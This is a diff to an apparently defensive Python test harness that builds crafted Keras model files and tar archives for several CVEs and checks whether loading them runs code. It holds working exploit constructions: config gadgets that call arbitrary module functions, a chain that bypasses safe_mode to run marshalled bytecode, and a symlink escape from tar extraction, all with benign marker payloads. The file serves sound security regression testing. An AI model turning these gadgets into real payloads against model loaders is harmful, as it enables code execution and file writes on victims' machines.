@@ -10,8 +10,10 @@ builder and the way its text says the file is loaded.
 
 from __future__ import annotations
 
+import codecs
 import io
 import json
+import marshal
 import os
 import tarfile
 import zipfile
@@ -41,22 +43,44 @@ def _rewrite_config(path: Path, change) -> Path:
     return path
 
 
-def _functional(keras, path: Path) -> Path:
-    inputs = keras.Input((3,), name="x")
-    keras.Model(inputs, keras.layers.Dense(2, name="dense")(inputs)).save(str(path))
+def _save(model, path: Path) -> Path:
+    """`model.save(path)` as a .keras zip archive (TF 2.12 writes HDF5 under that name unless
+    told save_format='keras_v3')."""
+    model.save(str(path))
+    if not zipfile.is_zipfile(path):
+        model.save(str(path), save_format="keras_v3")
     return path
 
 
-def _call_at_load(module: str, name: str, args: list, kwargs: dict) -> dict:
-    """A functional-model "layer" that is a function named by module and name: rebuilding the
-    model calls it with the arguments the file gives (the gadget of CVE-2025-1550/-8747/-9906)."""
+def _functional(keras, path: Path, layer=None) -> Path:
+    inputs = keras.Input((3,), name="x")
+    layer = layer or keras.layers.Dense(2, name="dense")
+    return _save(keras.Model(inputs, layer(inputs)), path)
+
+
+def _bytecode(function) -> list:
+    """A Python function as Keras 3's config holds a lambda: its marshalled code in base64, its
+    defaults and closure (none here)."""
+    code = codecs.encode(marshal.dumps(function.__code__), "base64").decode("ascii")
+    return [code, None, None]
+
+
+def _function(module: str, name: str) -> dict:
+    """A function named by its module and name, as config.json refers to one."""
+    return {"module": module, "class_name": "function", "config": name, "registered_name": name}
+
+
+def _call_at_load(name: str, function: dict, inputs, arguments: dict) -> dict:
+    """A Lambda layer of a functional model whose function is named by module and name, called
+    once while the model is rebuilt, on `inputs` from the file (passed by keyword: Keras 3 takes
+    only tensors positionally) and with `arguments` from the file."""
     return {
-        "module": module,
-        "class_name": "function",
-        "config": name,
-        "registered_name": "function",
-        "name": f"gadget_{name}",
-        "inbound_nodes": [{"args": args, "kwargs": kwargs}],
+        "module": "keras.layers",
+        "class_name": "Lambda",
+        "config": {"name": name, "function": function, "arguments": arguments},
+        "registered_name": None,
+        "name": name,
+        "inbound_nodes": [{"args": [], "kwargs": {"inputs": inputs}}],
     }
 
 
@@ -67,10 +91,10 @@ def _insert_gadget(config: dict, gadget: dict) -> None:
 
 
 def any_module_function(directory: Path, mark: Path) -> Path:
-    """CVE-2025-1550: config.json names a function of any module (here os.mkdir) and its
-    arguments; Keras imports the module and calls it while rebuilding the model."""
+    """CVE-2025-1550: config.json names a function of any module (here os.mkdir) and the input
+    it is called on; Keras imports the module and calls it while rebuilding the model."""
     path = _functional(_keras(), directory / "any_module.keras")
-    gadget = _call_at_load("os", "mkdir", [str(mark)], {})
+    gadget = _call_at_load("gadget", _function("os", "mkdir"), str(mark), {})
     return _rewrite_config(path, lambda c: _insert_gadget(c, gadget))
 
 
@@ -80,35 +104,27 @@ def get_file_gadget(directory: Path, mark: Path) -> Path:
     source = directory / "get_file_source.txt"
     source.write_text("fetched by keras.utils.get_file while loading\n", encoding="utf-8")
     path = _functional(_keras(), directory / "get_file.keras")
-    kwargs = {
-        "fname": mark.name,
-        "origin": source.as_uri(),
-        "cache_dir": str(mark.parent),
-        "cache_subdir": ".",
-    }
-    gadget = _call_at_load("keras.utils", "get_file", [], kwargs)
+    arguments = {"origin": source.as_uri(), "cache_dir": str(mark.parent), "cache_subdir": "."}
+    gadget = _call_at_load("gadget", _function("keras.utils", "get_file"), mark.name, arguments)
     return _rewrite_config(path, lambda c: _insert_gadget(c, gadget))
 
 
 def enable_unsafe_then_lambda(directory: Path, mark: Path) -> Path:
-    """CVE-2025-9906: config.json first calls keras.config.enable_unsafe_deserialization (in a
-    nested model, rebuilt before the next layer), then a Lambda's bytecode runs
-    despite safe_mode."""
+    """CVE-2025-9906: config.json first calls keras.config.enable_unsafe_deserialization (through
+    keras.ops.cond(True, it, it)), so that a Python lambda's bytecode given as the input of the
+    next call (keras.ops.map(it, [0.0])) loads and runs despite safe_mode."""
     keras = _keras()
-    inner_input = keras.Input((3,), name="inner_x")
-    inner = keras.Model(inner_input, inner_input, name="inner")
-    path = directory / "enable_unsafe.keras"
-    model = keras.Sequential(
-        [keras.Input((3,)), inner, keras.layers.Lambda(ul.LEAVE_MARK), keras.layers.Dense(2)]
+    path = _functional(keras, directory / "enable_unsafe.keras")
+    switch = _function("keras.config", "enable_unsafe_deserialization")
+    first = _call_at_load(
+        "gadget", _function("keras.ops", "cond"), True, {"true_fn": switch, "false_fn": switch}
     )
-    model.save(str(path))
+    bytecode = {"class_name": "__lambda__", "config": {"value": _bytecode(ul.LEAVE_MARK)}}
+    then = _call_at_load("payload", _function("keras.ops", "map"), bytecode, {"xs": [0.0]})
 
     def change(config):
-        layers = config["config"]["layers"]
-        nested = next(layer for layer in layers if layer.get("class_name") == "Functional")
-        _insert_gadget(
-            nested, _call_at_load("keras.config", "enable_unsafe_deserialization", [], {})
-        )
+        _insert_gadget(config, then)
+        _insert_gadget(config, first)
 
     return _rewrite_config(path, change)
 
@@ -122,9 +138,7 @@ def h5_lambda(directory: Path, mark: Path) -> Path:
 
 def keras_lambda(directory: Path, mark: Path) -> Path:
     """CVE-2024-3660: a Lambda layer's bytecode in a .keras file."""
-    path = directory / "lambda.keras"
-    ul.lambda_model(ul.LEAVE_MARK).save(str(path))
-    return path
+    return _save(ul.lambda_model(ul.LEAVE_MARK), directory / "lambda.keras")
 
 
 def tfsm_layer(directory: Path, mark: Path) -> Path:
@@ -142,17 +156,17 @@ def tfsm_layer(directory: Path, mark: Path) -> Path:
     saved = directory / "attacker_savedmodel"
     tf.saved_model.save(module, str(saved), signatures={"serving_default": module.serve})
     keras = _keras()
-    path = _functional(keras, directory / "tfsm.keras")
+    path = _functional(keras, directory / "tfsm.keras", keras.layers.Activation("linear"))
 
     def change(config):
-        dense = config["config"]["layers"][1]
-        dense.update(
+        layer = config["config"]["layers"][1]
+        layer.update(
             {
                 "module": "keras.layers",
                 "class_name": "TFSMLayer",
                 "registered_name": "TFSMLayer",
                 "config": {
-                    "name": "dense",
+                    "name": layer["config"]["name"],
                     "trainable": False,
                     "filepath": str(saved),
                     "call_endpoint": "serving_default",
@@ -160,15 +174,9 @@ def tfsm_layer(directory: Path, mark: Path) -> Path:
                 },
             }
         )
-        dense.pop("build_config", None)
+        layer.pop("build_config", None)
 
-    _rewrite_config(path, change)
-    with zipfile.ZipFile(path) as archive:
-        members = {n: archive.read(n) for n in archive.namelist() if n != "model.weights.h5"}
-    with zipfile.ZipFile(path, "w") as archive:
-        for name, data in members.items():
-            archive.writestr(name, data)
-    return path
+    return _rewrite_config(path, change)
 
 
 def vocabulary_path(directory: Path, mark: Path) -> Path:
@@ -178,9 +186,12 @@ def vocabulary_path(directory: Path, mark: Path) -> Path:
     secret.write_text(SECRET, encoding="utf-8")
     keras = _keras()
     path = directory / "vocabulary.keras"
-    keras.Sequential(
-        [keras.Input((1,), dtype="string"), keras.layers.StringLookup(vocabulary=["a", "b"])]
-    ).save(str(path))
+    _save(
+        keras.Sequential(
+            [keras.Input((1,), dtype="string"), keras.layers.StringLookup(vocabulary=["a", "b"])]
+        ),
+        path,
+    )
 
     def change(config):
         lookup = config["config"]["layers"][-1]["config"]
@@ -189,25 +200,33 @@ def vocabulary_path(directory: Path, mark: Path) -> Path:
     return _rewrite_config(path, change)
 
 
-def _tar_with(path: Path, member: str) -> Path:
+def _tar_through_link(path: Path, mark: Path) -> Path:
+    """A tar archive whose member `link` is a symbolic link to the marker directory (outside the
+    extraction directory) and whose member `link/escaped` is a file: extracting it in full writes
+    `escaped` in the marker directory."""
+    (mark.parent / "cache" / "datasets").mkdir(parents=True)
     with tarfile.open(path, "w") as archive:
+        link = tarfile.TarInfo("link")
+        link.type, link.linkname = tarfile.SYMTYPE, str(mark.parent)
+        archive.addfile(link)
         data = b"extracted outside the extraction directory"
-        info = tarfile.TarInfo(member)
-        info.size = len(data)
-        archive.addfile(info, io.BytesIO(data))
+        member = tarfile.TarInfo("link/escaped")
+        member.size = len(data)
+        archive.addfile(member, io.BytesIO(data))
     return path
 
 
-def tar_parent_member(directory: Path, mark: Path) -> Path:
-    """CVE-2025-12060: a downloaded archive (get_file(..., extract=True)) with a member named
-    ../../escaped: extracting writes outside the extraction directory (and the working one)."""
-    return _tar_with(directory / "traversal.tar", "../../escaped")
+def tar_symlink_member(directory: Path, mark: Path) -> Path:
+    """CVE-2025-12060: a downloaded archive (get_file(..., extract=True)) with a symbolic link
+    out of the extraction directory and a file behind it; extracted in its own directory."""
+    return _tar_through_link(directory / "traversal.tar", mark)
 
 
 def tar_within_cwd(directory: Path, mark: Path) -> Path:
-    """GHSA-hqp4-2352-xf5r: the same member, where the working directory contains the place it
-    lands: the check of 3.12 compared against the working directory, not the extraction one."""
-    return _tar_with(directory / "traversal_cwd.tar", "../../escaped")
+    """GHSA-hqp4-2352-xf5r: the same archive, extracted while the working directory contains the
+    link's target: the check of 3.12 compared against the working directory, not the extraction
+    directory."""
+    return _tar_through_link(directory / "traversal_cwd.tar", mark)
 
 
 # What `load_model` is told: the advisory's safe_mode (None: the default), unless UNSAFE (the
@@ -247,7 +266,6 @@ def _extract(path: Path, mark: Path):
     directory; the working directory is the marker directory for the `_cwd` archive, else the
     extraction directory itself."""
     cache = mark.parent / "cache"
-    (cache / "datasets").mkdir(parents=True)
     cwd = os.getcwd()
     os.chdir(mark.parent if path.stem.endswith("_cwd") else cache / "datasets")
     try:
@@ -275,7 +293,7 @@ ADVISORIES = {
     "CVE-2025-9906": ("SAFETY.CONFIG.ENABLE_UNSAFE", enable_unsafe_then_lambda, _load(True)),
     "CVE-2025-12058": ("SAFETY.VOCABULARY.LOCAL_FILE", vocabulary_path, _load_vocabulary),
     "CVE-2026-1462": ("SAFETY.TFSMLAYER.EXTERNAL_SAVEDMODEL", tfsm_layer, _load_and_predict),
-    "CVE-2025-12060": ("SAFETY.ARCHIVE.PARENT_MEMBER", tar_parent_member, _extract),
+    "CVE-2025-12060": ("SAFETY.ARCHIVE.SYMLINK_MEMBER", tar_symlink_member, _extract),
     "GHSA-hqp4-2352-xf5r": ("SAFETY.ARCHIVE.WITHIN_CWD", tar_within_cwd, _extract),
 }
 
@@ -292,20 +310,20 @@ def run(directory: Path, unsafe: bool = False) -> dict:
         marks.mkdir(parents=True)
         mark = marks / "mark"
         outcome = {"clause": clause, "built": False, "raised": None, "message": ""}
-        os.environ[ul.MARK_VARIABLE] = str(mark)
         before = set()
         try:
             path = build(directory, mark)
-            if mark.exists():
-                raise RuntimeError("building the file ran its payload")
             outcome["built"], before = True, set(marks.rglob("*"))
+            os.environ[ul.MARK_VARIABLE] = str(mark)
             load(path, mark)
         except Exception as exc:
-            outcome["raised"], outcome["message"] = type(exc).__name__, str(exc)[:500]
+            text = str(exc)
+            text = text if len(text) <= 700 else f"{text[:350]} … {text[-350:]}"
+            outcome["raised"], outcome["message"] = type(exc).__name__, text
             if not outcome["built"]:  # what the builder made is no payload's doing
                 before = set(marks.rglob("*"))
         finally:
-            del os.environ[ul.MARK_VARIABLE]
+            os.environ.pop(ul.MARK_VARIABLE, None)
         outcome["touched"] = _effects(marks, before)
         outcome["ran_code"] = bool(outcome["touched"])
         report[advisory] = outcome
